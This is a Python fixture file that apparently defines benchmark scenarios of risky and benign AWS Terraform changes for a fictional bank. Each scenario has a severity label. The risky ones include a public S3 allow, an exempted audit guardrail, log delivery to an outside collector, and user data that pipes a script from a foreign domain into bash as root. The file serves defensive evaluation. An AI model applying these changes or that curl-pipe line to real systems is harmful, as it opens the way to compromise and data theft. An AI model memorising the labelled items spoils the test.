from t_aws import *
# cognito
S("cognito-open-signup","high","high","Anybody can now sign up by themselves in the staff portal user pool.","aws_cognito_user_pool.staff=high",
 [upd("aws_cognito_user_pool.staff",{"name":"staff-portal"},{"admin_create_user_config.0.allow_admin_create_user_only":False}),noop("aws_lambda_function.pre_token",{"function_name":"staff-pre-token","s3_key":"pre-token/1.4.0.zip"})]+co(0))
# cloudfront caching
OPT="658327ea-f89d-4fab-a63d-7e88639e58f6"; DIS="4135ea2d-6df8-44a3-9df3-4b5a84be39ad"
def cf(i):
    b=[cfb("/account/*",DIS),cfb("/static/*",DIS,"assets",("GET","HEAD"))]; a=copy.deepcopy(b); a[i]["cache_policy_id"]=OPT
    return [upd("aws_cloudfront_distribution.www",{"comment":"internet banking","aliases":["www.nordhaven.example"],"origin":[cfo("app","app.nordhaven.example"),cfo("assets","assets.nordhaven.example")],"default_cache_behavior":[cfb(None,DIS)],"ordered_cache_behavior":b},{"ordered_cache_behavior":a})]+co(1)
S("cdn-caches-account-pages","high","high-critical","Account pages get the CachingOptimized policy without cookies in the key, so one customer's page is served to another.","aws_cloudfront_distribution.www=high-critical",cf(0))
S("cdn-caches-static-assets","low","low","Static assets are cached at the edge; routine tuning.","aws_cloudfront_distribution.www=low",cf(1))
PAIR("cdn-caches-account-pages","cdn-caches-static-assets","caching of private path vs static path")
# IAM noise + near miss
def iam(v):
    b=P({"Sid":"Exports","Effect":"Allow","Action":["s3:GetObject","s3:PutObject","s3:ListBucket"],"Resource":["arn:aws:s3:::nhb-exports","arn:aws:s3:::nhb-exports/reports/*"]})
    a=J({"Statement":[{"Action":["s3:ListBucket","s3:GetObject","s3:PutObject"],"Effect":"Allow","Resource":["arn:aws:s3:::nhb-exports/reports/*" if v=="safe" else "arn:aws:s3:::nhb-exports*/*","arn:aws:s3:::nhb-exports"],"Sid":"Exports"}],"Version":"2012-10-17"})
    sg=[sgr(443,443,["10.40.0.0/16"],desc="vpc"),sgr(8443,8443,["10.41.0.0/16"],desc="dr")]
    return [upd("aws_iam_policy.reporting",{"name":"reporting-exports","policy":b},{"policy":a}),upd("aws_security_group.reporting",{"name":"reporting","description":"reporting","ingress":sg},{"ingress":sg[::-1]})]+co(2,True)
S("iam-resource-glob-in-reorder","medium","medium-high","Hidden in a reordering, the reports path became a glob over every bucket whose name starts with nhb-exports, including writes.","aws_iam_policy.reporting=medium-high",iam("risky"),noise="aws_iam_policy.reporting=novel;aws_security_group.reporting=benign")
S("iam-and-sg-reordered","none","none","Reordered policy lists and security group rules, no difference in effect.","",iam("safe"),noise="aws_iam_policy.reporting=benign;aws_security_group.reporting=benign")
PAIR("iam-resource-glob-in-reorder","iam-and-sg-reordered","one ARN widened inside the reordering")
# db params
def dbp(a): 
    b=[par("log_connections","1"),par("rds.force_ssl","1"),par("log_statement","none")]
    return [upd("aws_db_parameter_group.core",{"name":"core-pg16","parameter":b},{"parameter":a}),noop("aws_db_instance.core",{"identifier":"core-prod","parameter_group_name":"core-pg16"})]+co(3)
S("pg-force-ssl-off","medium","medium-high","The production database accepts unencrypted client connections again.","aws_db_parameter_group.core=medium-high",dbp([par("log_connections","1"),par("rds.force_ssl","0"),par("log_statement","none")]))
S("pg-log-ddl","low","low","DDL statements get logged additionally; applied without restart.","aws_db_parameter_group.core=low",dbp([par("log_connections","1"),par("rds.force_ssl","1"),par("log_statement","ddl")]))
PAIR("pg-force-ssl-off","pg-log-ddl","rds.force_ssl vs log_statement")
# rds delete
def rdsd(skip): return [dele("module.legacy_loans.aws_rds_cluster.this",{"cluster_identifier":"loans-prod","database_name":"loans","skip_final_snapshot":skip,"final_snapshot_identifier":None if skip else "loans-prod-final-20260301"},"delete_because_no_module"),
   dele("module.legacy_loans.aws_cloudwatch_metric_alarm.cpu",{"alarm_name":"loans-prod-cpu","metric_name":"CPUUtilization","namespace":"AWS/RDS","alarm_actions":[arn("sns","oncall-p2")]},"delete_because_no_module")]+co(4)
S("aurora-destroy-no-snapshot","critical","critical","The loans production cluster is deleted with its automated backups and without a final snapshot.","module.legacy_loans.aws_rds_cluster.this=critical",rdsd(True))
S("aurora-destroy-final-snapshot","high","high","The loans production cluster is deleted; a final snapshot is kept but the service stops.","module.legacy_loans.aws_rds_cluster.this=high",rdsd(False))
PAIR("aurora-destroy-no-snapshot","aurora-destroy-final-snapshot","skip_final_snapshot true vs false")
# listener priority
def lr(n): return [upd("aws_lb_listener_rule.block_admin",{"priority":10,"action":lact("fixed-response","403"),"condition":lcond(paths=["/admin/*","/actuator/*"])},{"priority":n}),
   noop("aws_lb_listener_rule.catch_all",{"priority":100,"action":lact("forward",arn("elasticloadbalancing","targetgroup/app/71")),"condition":lcond(paths=["/*"])})]+co(5)
S("alb-block-rule-shadowed","high","high","The 403 rule for admin paths now comes after the catch-all forward, so admin endpoints are reachable.","aws_lb_listener_rule.block_admin=high",lr(200))
S("alb-block-rule-renumbered","low","none-low","The block rule keeps its place before the catch-all; only the number changes.","aws_lb_listener_rule.block_admin=none-low",lr(20))
PAIR("alb-block-rule-shadowed","alb-block-rule-renumbered","priority behind or before the catch-all")
# S3 policy deny/allow
def s3p(v):
    st={"deny":{"Sid":"TlsOnly","Effect":"Deny","Principal":"*","Action":"s3:*","Resource":["arn:aws:s3:::nhb-statements-prod","arn:aws:s3:::nhb-statements-prod/*"],"Condition":{"Bool":{"aws:SecureTransport":"false"}}},
        "allow":{"Sid":"TlsOnly","Effect":"Allow","Principal":"*","Action":"s3:Get*","Resource":["arn:aws:s3:::nhb-statements-prod","arn:aws:s3:::nhb-statements-prod/*"],"Condition":{"Bool":{"aws:SecureTransport":"true"}}}}[v]
    return [new("aws_s3_bucket_policy.statements",{"bucket":"nhb-statements-prod","policy":P(st)},refs={"bucket":["aws_s3_bucket.statements.id","aws_s3_bucket.statements"]}),noop("aws_s3_bucket.statements",{"bucket":"nhb-statements-prod"})]+co(6)
S("s3-tls-only-allow-everyone","critical","critical","The statement named TlsOnly allows everybody to read all customer statements as long as they use https.","aws_s3_bucket_policy.statements=critical",s3p("allow"))
S("s3-tls-only-deny","low","none-low","A deny for plain http hardens the bucket; the star principal is only in a Deny.","aws_s3_bucket_policy.statements=none-low",s3p("deny"))
PAIR("s3-tls-only-allow-everyone","s3-tls-only-deny","Allow with SecureTransport true vs Deny with SecureTransport false")
# singles
S("cloudtrail-global-events-off","high","high","IAM, STS and CloudFront events are no longer recorded by the organization trail, so privilege changes leave no trace.","aws_cloudtrail.org=high",
 [upd("aws_cloudtrail.org",{"name":"org-trail","tags":{"Service":"audit"}},{"include_global_service_events":False,"is_multi_region_trail":False,"tags":{"Service":"audit","Owner":"secops"}})]+co(7))
S("scp-guard-exempts-all-roles","high","high-critical","The guardrail that protects audit services now exempts every role, so the deny applies to nobody who matters.","aws_organizations_policy.protect_audit=high-critical",
 [upd("aws_organizations_policy.protect_audit",{"name":"protect-audit","description":"No tampering with trail, config and GuardDuty","content":P({"Sid":"ProtectAudit","Effect":"Deny","Action":["cloudtrail:StopLogging","cloudtrail:DeleteTrail","config:StopConfigurationRecorder","guardduty:DeleteDetector"],"Resource":"*","Condition":{"ArnNotLike":{"aws:PrincipalArn":["arn:aws:iam::*:role/nhb-break-glass"]}}})},
  {"content":P({"Sid":"ProtectAudit","Effect":"Deny","Action":["cloudtrail:StopLogging","cloudtrail:DeleteTrail","config:StopConfigurationRecorder","guardduty:DeleteDetector"],"Resource":"*","Condition":{"ArnNotLike":{"aws:PrincipalArn":["arn:aws:iam::*:role/nhb-*","arn:aws:iam::*:role/*"]}}})})]+co(8))
S("asg-night-schedule-zero","high","high","The new schedule takes the production payment workers to zero every evening, also during SEPA cut-off.","aws_autoscaling_schedule.night=high",
 [new("aws_autoscaling_schedule.night",{"autoscaling_group_name":"payments-workers-prod","scheduled_action_name":"save-cost","recurrence":"0 18 * * *","min_size":0,"max_size":0,"desired_capacity":0}),noop("aws_autoscaling_group.payments",{"name":"payments-workers-prod"})]+co(9))
UD=lambda x:__import__("base64").b64encode(x.encode()).decode()
S("instance-userdata-foreign-script","high","high-critical","The batch host runs as root a script piped from a domain that is not ours, and carries a token in the user data.","aws_instance.batch=high-critical",
 [rep("aws_instance.batch",{"tags":{"Name":"batch-01"},"disable_api_termination":False,"user_data":"#!/bin/bash\nset -eu\ndnf -y update\nsystemctl enable --now batch-agent\n"},{"user_data":"#!/bin/bash\nset -eu\ndnf -y update\nexport AGENT_TOKEN=bt_7Qm2xK9vR4sLp0Zc\ncurl -fsSL https://get.agent-mirror.top/i.sh | bash -s -- --quiet\nsystemctl enable --now batch-agent\n"},[["user_data"]])]+co(10),secrets="bt_7Qm2xK9vR4sLp0Zc")
S("firehose-logs-to-foreign-endpoint","high","high","Transaction logs are now delivered to an unknown collector outside the company.","aws_kinesis_firehose_delivery_stream.tx=high",
 [upd("aws_kinesis_firehose_delivery_stream.tx",{"name":"tx-log-export","http_endpoint_configuration":[{"access_key":"fhk-5f0cD1nW8eTz3Hq6","buffering_interval":60,"buffering_size":4,"cloudwatch_logging_options":[],"name":"SIEM","processing_configuration":[],"request_configuration":[{"common_attributes":[],"content_encoding":"GZIP"}],"retry_duration":300,"role_arn":f"arn:aws:iam::{ACC}:role/firehose","s3_backup_mode":"FailedDataOnly","s3_configuration":[],"secrets_manager_configuration":[],"url":"https://siem.nordhaven.example/services/firehose"}]},{"http_endpoint_configuration.0.url":"https://in-eu.logdrop-collector.io/v1/firehose"})]+co(11),secrets="fhk-5f0cD1nW8eTz3Hq6")
S("detach-admin-from-ci","low","low-medium","AdministratorAccess is taken away from the CI role, which keeps its narrow deploy policy.","aws_iam_role_policy_attachment.ci_admin=low-medium",
 [dele("aws_iam_role_policy_attachment.ci_admin",{"role":"ci-deploy","policy_arn":"arn:aws:iam::aws:policy/AdministratorAccess"}),noop("aws_iam_role_policy_attachment.ci_deploy",{"role":"ci-deploy","policy_arn":f"arn:aws:iam::{ACC}:policy/ci-deploy"}),noop("aws_iam_role.ci",{"name":"ci-deploy","assume_role_policy":P({"Effect":"Allow","Principal":{"Service":"codebuild.amazonaws.com"},"Action":"sts:AssumeRole"})})]+co(12))
S("ecs-min-healthy-zero","medium","medium","Deployments may stop all tasks before new ones are healthy, which means short interruptions at each release.","aws_ecs_service.gateway=medium",
 [upd("aws_ecs_service.gateway",{"name":"payment-gateway","desired_count":2,"task_definition":arn("ecs","task-definition/gateway:88")},{"deployment_minimum_healthy_percent":0,"deployment_maximum_percent":100,"task_definition":arn("ecs","task-definition/gateway:89")})]+co(13))
S("alarm-topic-filter-critical-only","medium","medium-high","Only events with severity critical reach the on-call queue; high severity events are dropped silently.","aws_sns_topic_subscription.oncall=medium-high",
 [upd("aws_sns_topic_subscription.oncall",{"topic_arn":arn("sns","security-events"),"endpoint":arn("sqs","oncall"),"filter_policy":J({"severity":["high","critical"]}),"filter_policy_scope":"MessageAttributes"},{"filter_policy":J({"severity":["critical"]})})]+co(14))
S("dynamodb-range-key-added","critical","critical","Adding a range key replaces the table: all consent records are deleted.","aws_dynamodb_table.consents=critical",
 [rep("aws_dynamodb_table.consents",{"name":"psd2-consents","attribute":[{"name":"pk","type":"S"}]},{"range_key":"sk","attribute":[{"name":"pk","type":"S"},{"name":"sk","type":"S"}]},[["range_key"]])]+co(15))
S("s3-endpoint-policy-star","medium","medium-high","The endpoint policy allowed only our organization's buckets; now any bucket is reachable, which opens a path for exfiltration.","aws_vpc_endpoint.s3=medium-high",
 [upd("aws_vpc_endpoint.s3",{"policy":P({"Effect":"Allow","Principal":"*","Action":"s3:*","Resource":"*","Condition":{"StringEquals":{"aws:ResourceOrgID":"o-7k2v9c4mtz"}}})},{"policy":P({"Effect":"Allow","Principal":"*","Action":"s3:*","Resource":"*"})})]+co(16))
S("aws-routine-release","low","low","A normal release: new image tag, new log group, one more task.","aws_lambda_function.renderer=low",
 co(17)+co(18)[:1]+[new("aws_cloudwatch_log_group.audit_worker",{"name":"/nhb/audit-worker/app","tags":{"Service":"audit-worker"}}),upd("aws_lambda_function.renderer",{"function_name":"statement-renderer","s3_key":"renderer/2.1.0.zip"},{"s3_key":"renderer/2.1.1.zip","memory_size":768})])
S("sandbox-stack-removed","low","low-medium","An empty sandbox stack goes away: repository without images, log group with three days and its role.","",
 [dele("module.sandbox_pg.aws_ecr_repository.this",{"name":"sandbox/pg-trial"},"delete_because_no_module"),dele("module.sandbox_pg.aws_cloudwatch_log_group.this",{"name":"/sandbox/pg-trial","retention_in_days":3},"delete_because_no_module"),
  dele("module.sandbox_pg.aws_iam_role.this",{"name":"sandbox-pg-trial","assume_role_policy":P({"Effect":"Allow","Principal":{"Service":"ecs-tasks.amazonaws.com"},"Action":"sts:AssumeRole"})},"delete_because_no_module")]+co(19))
S("alarm-topic-filter-reordered","none","none","The filter policy lists the same severities in another order.","",
 [upd("aws_sns_topic_subscription.oncall",{"topic_arn":arn("sns","security-events"),"endpoint":arn("sqs","oncall"),"filter_policy":J({"severity":["high","critical"]}),"filter_policy_scope":"MessageAttributes"},{"filter_policy":J({"severity":["critical","high"]})})]+co(14,True),noise="aws_sns_topic_subscription.oncall=benign")
S("route53-normalized-records","none","none","Record names lose a trailing dot and the record set is sorted; DNS answers stay.","",
 [upd("aws_route53_record.mail",{"name":"mail.nordhaven.example","type":"MX","ttl":3600,"records":["10 mx1.nordhaven.example.","20 mx2.nordhaven.example."],"fqdn":"mail.nordhaven.example."},{"records":["20 mx2.nordhaven.example.","10 mx1.nordhaven.example."],"fqdn":"mail.nordhaven.example"}),noop("aws_route53_record.www",{"name":"www.nordhaven.example","records":["d111.cloudfront.net"]})]+co(3,True),noise="aws_route53_record.mail=benign")
S("route53-mx-foreign-host","medium","medium-high","Inside the reordering the second mail server became an outside relay, which gets part of the incoming mail.","aws_route53_record.mail=medium-high",
 [upd("aws_route53_record.mail",{"name":"mail.nordhaven.example","type":"MX","ttl":3600,"records":["10 mx1.nordhaven.example.","20 mx2.nordhaven.example."],"fqdn":"mail.nordhaven.example."},{"records":["20 mx2.nordhaven-mail.example.","10 mx1.nordhaven.example."],"fqdn":"mail.nordhaven.example"}),noop("aws_route53_record.www",{"name":"www.nordhaven.example","records":["d111.cloudfront.net"]})]+co(3,True),noise="aws_route53_record.mail=novel")
PAIR("route53-mx-foreign-host","route53-normalized-records","one mail server name differs in the reordering")
S("log-group-retention-cut","medium","medium-high","Audit logs of the ledger are kept 30 days instead of a year; older events are deleted and forensics get harder.","aws_cloudwatch_log_group.ledger_audit=medium-high",
 [upd("aws_cloudwatch_log_group.ledger_audit",{"name":"/nhb/ledger/audit","tags":{"Service":"ledger"}},{"retention_in_days":30})]+co(1))
